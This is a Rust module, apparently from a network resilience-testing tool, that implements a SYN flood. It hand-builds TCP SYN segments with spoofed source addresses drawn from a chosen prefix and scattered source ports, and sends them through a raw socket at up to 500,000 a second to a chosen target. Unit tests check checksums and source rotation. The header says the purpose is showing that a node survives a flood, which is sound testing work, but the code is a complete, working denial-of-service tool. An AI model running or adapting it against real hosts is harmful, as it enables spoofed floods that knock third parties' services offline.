//! A SYN flood: TCP connections that are begun and never completed, from many sources.
//!
//! The segments are made by hand and leave through a raw socket, as no stack would send them; rate
//! and count are bounded. It exists to show that a node lives through one.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::Duration;

use anyhow::Context;
use ipnet::Ipv4Net;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use tokio::time::{Instant, MissedTickBehavior};

use super::report::Report;
use super::{Stop, payload, stopped};

/// Most segments a second.
const RATE_MAX: u32 = 500_000;

/// Most segments of one run.
const COUNT_MAX: u64 = 10_000_000;

/// How often segments are sent.
const TICK: Duration = Duration::from_millis(1);

/// How often counts are said.
const REPORT_PERIOD: Duration = Duration::from_millis(250);

/// `IPPROTO_RAW`: the kernel sends what it is given, IPv4 header included (raw(7)).
const RAW: i32 = 255;

/// An IPv4 header without options and a TCP header with a maximum segment size.
const SEGMENT_BYTES: usize = 20 + 24;

/// Send TCP SYN segments that are never completed.
#[derive(Debug, clap::Args)]
pub struct Arguments {
    /// Address and port to flood
    #[arg(long)]
    to: SocketAddrV4,
    /// Addresses to send from, one after another
    #[arg(long)]
    sources: Ipv4Net,
    /// Segments a second
    #[arg(long, default_value_t = 20_000, value_parser = clap::value_parser!(u32).range(1..=i64::from(RATE_MAX)))]
    rate: u32,
    /// Segments in all
    #[arg(long, default_value_t = 100_000, value_parser = clap::value_parser!(u64).range(1..=COUNT_MAX))]
    count: u64,
}

pub(super) async fn run(arguments: &Arguments, stop: Stop) -> anyhow::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
        .context("a raw socket needs CAP_NET_RAW")?;
    let mut flood =
        Flood { socket, to: arguments.to, sources: arguments.sources, sent: 0, refused: 0 };
    tokio::select! {
        () = flood.run(arguments.rate, arguments.count) => {}
        () = stopped(stop) => {}
    }
    flood.say();
    Ok(())
}

struct Flood {
    socket: Socket,
    to: SocketAddrV4,
    sources: Ipv4Net,
    sent: u64,
    refused: u64,
}

impl Flood {
    async fn run(&mut self, rate: u32, count: u64) {
        let begin = Instant::now();
        let mut said = begin;
        let mut ticks = tokio::time::interval(TICK);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Skip);
        let to = SockAddr::from(SocketAddr::V4(self.to));
        while self.sent + self.refused < count {
            ticks.tick().await;
            let due = begin.elapsed().as_micros() * u128::from(rate) / 1_000_000;
            let due = u64::try_from(due).unwrap_or(u64::MAX).min(count);
            // A tick that came late is not made up for at once: at most 20 ms worth.
            let most = self.sent + self.refused + u64::from(rate / 50).max(1);
            while self.sent + self.refused < due.min(most) {
                self.send_one(&to);
            }
            if said.elapsed() >= REPORT_PERIOD {
                said = Instant::now();
                self.say();
            }
        }
    }

    fn send_one(&mut self, to: &SockAddr) {
        let segment = syn(self.sources, self.to, self.sent + self.refused);
        match self.socket.send_to(&segment, to) {
            Ok(_) => self.sent += 1,
            Err(_) => self.refused += 1,
        }
    }

    fn say(&self) {
        Report::Flooded { sent: self.sent, refused: self.refused }.say();
    }
}

/// SYN number `number`: sources take turns, source ports are scattered, so that each is a flow of
/// its own.
fn syn(sources: Ipv4Net, to: SocketAddrV4, number: u64) -> [u8; SEGMENT_BYTES] {
    let mut random = [0u8; 8];
    payload::fill(number, 0, &mut random);
    let [a, b, s0, s1, s2, s3, ..] = random;
    let host_bits = u32::MAX.checked_shr(sources.prefix_len().into()).unwrap_or(0);
    let hosts = u64::from(host_bits) + 1;
    let host = u32::try_from(number % hosts).unwrap_or(0);
    let source = Ipv4Addr::from_bits(sources.network().to_bits() | host);
    let source_port = 1024 | u16::from_be_bytes([a, b]);
    let mut segment = [0u8; SEGMENT_BYTES];
    segment[0] = 0x45; // version 4, five words
    segment[3] = 44; // total length
    segment[8] = 64; // TTL
    segment[9] = 6; // TCP
    segment[12..16].copy_from_slice(&source.octets());
    segment[16..20].copy_from_slice(&to.ip().octets());
    segment[20..22].copy_from_slice(&source_port.to_be_bytes());
    segment[22..24].copy_from_slice(&to.port().to_be_bytes());
    segment[24..28].copy_from_slice(&[s0, s1, s2, s3]);
    segment[32] = 0x60; // data offset: six words
    segment[33] = 0x02; // SYN
    segment[34..36].copy_from_slice(&64_240u16.to_be_bytes()); // window
    segment[40..44].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let checksum = tcp_checksum(&segment);
    segment[36..38].copy_from_slice(&checksum.to_be_bytes());
    segment
}

/// RFC 9293, section 3.1: over a pseudo-header (addresses, protocol, length) and the segment.
fn tcp_checksum(segment: &[u8; SEGMENT_BYTES]) -> u16 {
    let words = segment[12..].chunks_exact(2).map(|pair| u16::from_be_bytes([pair[0], pair[1]]));
    let mut sum = words.map(u32::from).sum::<u32>() + 6 + 24;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(u16::MAX)
}

#[cfg(test)]
mod tests {
    use super::{SEGMENT_BYTES, syn, tcp_checksum};

    fn segment(number: u64) -> [u8; SEGMENT_BYTES] {
        syn("100.64.0.0/16".parse().unwrap(), "192.0.2.1:80".parse().unwrap(), number)
    }

    #[test]
    fn a_segment_with_its_checksum_sums_to_zero() {
        for number in [0, 1, 65_535, 1 << 40] {
            assert_eq!(tcp_checksum(&segment(number)), 0, "SYN {number}");
        }
    }

    #[test]
    fn sources_stay_inside_their_prefix_and_take_turns() {
        assert_eq!(&segment(0)[12..16], &[100, 64, 0, 0]);
        assert_eq!(&segment(65_535)[12..16], &[100, 64, 255, 255]);
        assert_eq!(&segment(65_536)[12..16], &[100, 64, 0, 0]);
        assert_ne!(&segment(0)[20..22], &segment(65_536)[20..22], "another source port");
        let alone = syn("10.0.0.7/32".parse().unwrap(), "192.0.2.1:80".parse().unwrap(), 9);
        assert_eq!(&alone[12..16], &[10, 0, 0, 7]);
    }
}
